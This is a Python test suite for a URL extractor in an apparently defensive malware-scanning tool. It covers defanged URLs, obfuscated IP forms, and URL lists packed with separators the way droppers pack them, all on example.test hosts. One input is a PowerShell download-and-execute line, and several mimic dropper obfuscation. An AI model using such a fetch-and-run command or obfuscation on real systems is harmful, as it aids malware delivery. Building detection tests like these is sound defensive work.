"""URLs as they are written, and as a browser would take them."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from linear import assert_linear

from emoscan.parse.urls import find_urls, host_of, ipv4_of, normalise, refang, registrable


def found(text, *, code=False, splits=()):
    return [url.value for url in find_urls(text, code=code, splits=splits)]


@pytest.mark.parametrize(
    ("written", "url"),
    [
        ("http://a.example.test/x", "http://a.example.test/x"),
        ("HTTPS://A.Example.TEST/X", "https://a.example.test/X"),
        ("hxxp://a.example.test/x", "http://a.example.test/x"),
        ("hXXps[:]//a[.]example[.]test/x", "https://a.example.test/x"),
        ("h**p://a.example.test", "http://a.example.test"),
        ("http[://]a(.)example(dot)test/x", "http://a.example.test/x"),
        ("fxp://a.example.test/x", "ftp://a.example.test/x"),
        ("http:\\\\a.example.test\\b\\c", "http://a.example.test/b/c"),
        ("http:\\/\\/a.example.test\\/b", "http://a.example.test/b"),
        ("http:////a.example.test/b", "http://a.example.test/b"),
        ("http://%61.example.test/%41%20%2f", "http://a.example.test/A%20%2F"),
        ("http://user:pw@a.example.test:8080/x", "http://user:pw@a.example.test:8080/x"),
        ("http://0xC0000205/x", "http://192.0.2.5/x"),
        ("http://0300.0.02.05/x", "http://192.0.2.5/x"),
        ("http://3221225989/x", "http://192.0.2.5/x"),
        ("http://192.0.517/x", "http://192.0.2.5/x"),
        ("http://[2001:DB8::1]:80/x", "http://[2001:db8::1]:80/x"),
        ("http://bücher.example.test/", "http://xn--bcher-kva.example.test/"),
        ("file://files.example.test/share/x.js", "file://files.example.test/share/x.js"),
        ("http://a.example.test.", "http://a.example.test"),
        # not URLs
        ("http://", ""),
        ("http://localhost/x", ""),
        ("http://$server/x", ""),
        ("http://a b", ""),
        ("http://exam", ""),
        ("http://999.1.1.1/", ""),
        ("file:///C:/a.txt", ""),
        ("ht://a.example.test", ""),
    ],
)
def test_normalise(written, url):
    assert normalise(written) == url


LISTS = [
    ("$u='http://a.example.test/x@http://b.example.test/y'.Split('@')", ["http://a.example.test/x", "http://b.example.test/y"]),
    (
        "'http://a.example.test/1/*http://b.example.test/2/*http://c.example.test/3'",
        ["http://a.example.test/1/", "http://b.example.test/2/", "http://c.example.test/3"],
    ),
    ('"http://a.example.test/1,https://b.example.test/2".Split(",")', ["http://a.example.test/1", "https://b.example.test/2"]),
    ("'http://a.example.test/1|http://b.example.test/2'", ["http://a.example.test/1", "http://b.example.test/2"]),
    ("'http://a.example.test/1;http://b.example.test/2'", ["http://a.example.test/1", "http://b.example.test/2"]),
    (
        "'http://a.example.test/1/=mmu=http://b.example.test/2/=mmu=http://c.example.test/3/=mmu=http://d.example.test/4/'",
        ["http://a.example.test/1/", "http://b.example.test/2/", "http://c.example.test/3/", "http://d.example.test/4/"],
    ),
    (
        "'http://a.example.test/1.exehttp://b.example.test/2.exehttp://c.example.test/3.exe'",
        ["http://a.example.test/1.exe", "http://b.example.test/2.exe", "http://c.example.test/3.exe"],
    ),
    (
        "']e1r[S://a.example.test/1/@]e1r[S://b.example.test/2/@]e1r[Ss://c.example.test/3/'",
        ["http://a.example.test/1/", "http://b.example.test/2/", "https://c.example.test/3/"],
    ),
]


@pytest.mark.parametrize(("text", "urls"), LISTS)
def test_lists_are_split_at_the_right_places(text, urls):
    assert found(text, code=True) == urls


def test_a_list_is_split_at_what_the_script_splits_it_at():
    assert found("'http://a.example.test/1xyhttp://b.example.test/2xy'", code=True, splits=("xy",)) == [
        "http://a.example.test/1",
        "http://b.example.test/2",
    ]


@pytest.mark.parametrize(
    ("text", "urls"),
    [
        ("See http://a.example.test/x, please.", ["http://a.example.test/x"]),
        ("(http://a.example.test/x_(y))", ["http://a.example.test/x_(y)"]),
        ("<a href='http://a.example.test/x'>", ["http://a.example.test/x"]),
        ("http://a.example.test/xを見てください", ["http://a.example.test/x"]),
        ("mhtml:http://a.example.test/w.html!x-usc:http://a.example.test/w.html", ["http://a.example.test/w.html"] * 2),
        ("http://www.example.com。見て", ["http://www.example.com"]),
        ("http://www.example.comを見て", ["http://www.example.com"]),
        (
            "http://a.example.test/r?u=http://b.example.test/y",
            ["http://a.example.test/r?u=http://b.example.test/y", "http://b.example.test/y"],
        ),
        (
            "https://web.example.test/2020/https://b.example.test/",
            ["https://web.example.test/2020/https://b.example.test/", "https://b.example.test/"],
        ),
    ],
)
def test_prose(text, urls):
    assert found(text) == urls


@pytest.mark.parametrize(
    ("text", "url", "cut"),
    [
        ('x = "http://a.example.test/" & name', "http://a.example.test/", True),
        ("$x = 'http://a.example.test/' + $n", "http://a.example.test/", True),
        ('$x = "http://a.example.test/$n.exe"', "http://a.example.test/", True),
        ('x = "http://a.example.test/a"', "http://a.example.test/a", False),
        ("(New-Object Net.WebClient).DownloadFile(http://a.example.test/a);Start-Process b", "http://a.example.test/a", False),
    ],
)
def test_a_url_that_goes_on_in_a_variable_says_so(text, url, cut):
    assert [(u.value, u.cut) for u in find_urls(text, code=True)] == [(url, cut)]


@pytest.mark.parametrize(
    "text", ["no URL: here //", "[Convert]::FromBase64String", "C:/Users/x", "a://b.c", "12:34:56", "x ? y:z//comment"]
)
def test_ordinary_text_holds_none(text):
    assert found(text) == []
    assert found(text, code=True) == []


def test_three_words_before_a_colon_are_no_mask():
    assert found("git://a.example.test svn://a.example.test git://b.example.test git://c.example.test", code=True) == []


@pytest.mark.parametrize(
    ("host", "domain"),
    [
        ("www.example.com", "example.com"),
        ("a.b.example.co.jp", "example.co.jp"),
        ("module.vba", ""),
        ("report.doc", ""),
        ("co.jp", ""),
        ("x.test", ""),
        ("a.例え.xn--fiqs8s", "例え.xn--fiqs8s"),
    ],
)
def test_registrable(host, domain):
    assert registrable(host) == domain


def test_refang_leaves_code_alone_elsewhere():
    assert refang("a [.] b files[.]example(dot)test x(at)example.test") == "a.b files.example.test x@example.test"


@given(st.text(max_size=300))
def test_any_text(text):
    for code in (False, True):
        for url in find_urls(text, code=code):
            assert "://" in url.value
            assert 0 <= url.start <= url.end <= len(text)
    normalise(text)
    host_of(text)
    ipv4_of(text)


URL = st.builds(
    "http://{}.example.test/{}".format,
    st.from_regex(r"[a-z]{1,8}", fullmatch=True),
    st.from_regex(r"[A-Za-z0-9]{1,8}(/[A-Za-z0-9]{1,8}){0,2}/?", fullmatch=True),
)


@given(st.lists(URL, min_size=2, max_size=8, unique=True), st.sampled_from("@*|,;^~"))
def test_a_list_comes_apart_as_it_was_put_together(urls, separator):
    assert found(f"$x='{separator.join(urls)}'.Split('{separator}')", code=True) == urls


@given(URL)
def test_defanged_and_back(url):
    assert found(url.replace("http", "hxxp").replace(".", "[.]")) == [url]


@pytest.mark.parametrize(
    "unit", ["http://", "http://a.b/", "1.", "a.", "0x", "://", "]x[://a.b", "@", "%41", "http://a.example.test/x@", "\\", "[.]", "h", " "]
)
def test_linear_on_floods(unit):
    assert_linear(lambda text: find_urls(text, code=True), unit, 30_000)
